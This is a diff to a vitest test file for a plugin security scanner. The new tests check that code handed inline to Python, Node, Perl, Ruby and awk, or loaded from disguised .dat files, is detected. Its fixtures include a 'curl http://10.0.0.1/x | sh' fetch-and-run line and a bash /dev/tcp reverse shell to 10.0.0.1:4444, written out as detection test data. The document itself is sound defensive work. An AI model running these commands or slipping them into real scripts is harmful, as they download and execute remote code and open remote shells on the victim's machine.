@@ -9,7 +9,7 @@ import { homedir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { loadManifest } from '../../../main/registry/manifest/load-manifest.js';
-import { RULES, scanFile, scanPlugin } from '../../../main/registry/scan/index.js';
+import { RULES, scanFile, scanPlugin, scanPluginFiles } from '../../../main/registry/scan/index.js';
 import type { Finding } from '../../../main/registry/types.js';
 import { runCli } from '../../support/cli.js';
 import { tempDir } from '../../support/temp.js';
@@ -283,5 +283,63 @@ describe('a second review: code the scan scored 0 (each ran in the sandbox)', ()
     expect(scanFile('run.sh', '#!/bin/sh\nc=$(printf "%s%s" "cu" "rl")\n"${c}" -s http://10.0.0.1/x | sh\n').map((f) => f.rule)).toContain('sh.obfuscated-command');
     // A variable's program piped into a pager or grep is not.
     expect(scanFile('run.sh', '#!/bin/sh\n$TOOL --list | grep x\n')).toEqual([]);
+  });
+});
+
+describe('a third review: code handed to an interpreter inline or loaded by path (each scored 0)', () => {
+  const scan = (files: Record<string, string>) =>
+    scanPluginFiles(Object.entries(files).map(([path, text]) => ({ path, bytes: new TextEncoder().encode(text) })), null);
+  const at = (r: { findings: Finding[] }) => r.findings.map((f) => `${f.file}@${f.line}:${f.column}:${f.rule}`);
+
+  it.each([
+    ['python3 -c', "python3 -c 'import os; os.system(\"curl http://10.0.0.1/x | sh\")'\n", 'run.sh@2:24:py.os-exec'],
+    ['node -e', "node -e 'require(\"child_process\").execSync(\"id\")'\n", 'run.sh@2:10:js.child-process'],
+    ['node --eval=', "exec node --eval='require(\"child_process\").execSync(\"id\")'\n", 'run.sh@2:19:js.child-process'],
+    ['a Python program over several lines, after options', "python3 -u -c '\nimport os\nos.system(\"id\")\n' arg\n", 'run.sh@4:1:py.os-exec'],
+  ])('a program given to %s is scanned by that language\'s rules, at its line in the script', (_name, line, expected) => {
+    const r = scan({ 'run.sh': `#!/bin/sh\n${line}` });
+    expect(at(r)).toContain(expected);
+    expect(r.passed).toBe(false);
+  });
+
+  it('inline Perl, Ruby and an awk program that runs commands are notes to read by hand; plain awk and honest inline Python are not findings', () => {
+    const r = scan({ 'run.sh': "#!/bin/sh\nperl -e 'system(\"id\")'\nruby -e 'exec \"id\"'\nawk 'BEGIN{system(\"id\")}'\nawk -F: '{ print $1 }' f | sort\npython3 -c 'import json,sys; print(json.load(sys.stdin)[\"x\"])'\n" });
+    expect(at(r)).toEqual(['run.sh@2:9:scan.unscanned-code', 'run.sh@3:9:scan.unscanned-code', 'run.sh@4:5:scan.unscanned-code']);
+    expect(r.findings.map((f) => f.message).join('\n')).toMatch(/Inline Perl \(perl -e\)[\s\S]*An awk program that runs commands or writes files/);
+  });
+
+  it('Lua and Tcl, by extension or run by a script, are notes', () => {
+    const r = scan({ 'run.sh': '#!/bin/sh\nlua lib.dat\n', 'lib.dat': "os.execute('id')\n", 'x.tcl': 'exec id\n' });
+    expect(at(r).sort()).toEqual(['lib.dat@1:1:scan.unscanned-code', 'x.tcl@1:1:scan.unscanned-code']);
+  });
+
+  it.each([
+    ['require of a .dat file', { 'index.js': "require('./lib.dat')\n" }, 'lib.dat'],
+    ['require from a subfolder, climbing to another', { 'src/index.js': "require('../lib/x.dat')\n" }, 'lib/x.dat'],
+  ])('a file JavaScript loads by %s is scanned as JavaScript', (_name, files, target) => {
+    const r = scan({ ...files, [target]: "require('child_process').execSync('id')\n" });
+    expect(at(r)).toContain(`${target}@1:1:js.child-process`);
+  });
+
+  it.each([
+    ['SourceFileLoader', "from importlib.machinery import SourceFileLoader\nSourceFileLoader('x', 'lib.dat').load_module()\n"],
+    ['spec_from_file_location with a path from __file__', "import importlib.util, os\nimportlib.util.spec_from_file_location('m', os.path.join(os.path.dirname(__file__), 'lib.dat'))\n"],
+    ['runpy.run_path', "import runpy\nrunpy.run_path('lib.dat')\n"],
+  ])('a file Python runs through %s is scanned as Python', (_name, main) => {
+    const r = scan({ 'main.py': main, 'lib.dat': "import os\nos.system('id')\n" });
+    expect(at(r)).toContain('lib.dat@2:1:py.os-exec');
+  });
+
+  it('a file the manifest passes to a script that runs its argument (. "$1", exec python3 "$@") is scanned as that language', async () => {
+    const sourced = await scanDir(pluginDir('args = ["lib.dat"]\n', (dir) => {
+      writeFileSync(join(dir, 'run.sh'), '#!/bin/sh\n. "$1"\n', { mode: 0o755 });
+      writeFileSync(join(dir, 'lib.dat'), 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n');
+    }));
+    expect(sourced.findings.filter((f) => f.file === 'lib.dat').map((f) => f.rule)).toContain('sh.reverse-shell');
+    const all = await scanDir(pluginDir('args = ["-u", "lib.txt"]\n', (dir) => {
+      writeFileSync(join(dir, 'run.sh'), '#!/bin/sh\nexec python3 "$@"\n', { mode: 0o755 });
+      writeFileSync(join(dir, 'lib.txt'), 'import subprocess\nsubprocess.run(["id"])\n');
+    }));
+    expect(all.findings.filter((f) => f.file === 'lib.txt').map((f) => f.rule)).toContain('py.subprocess');
   });
 });
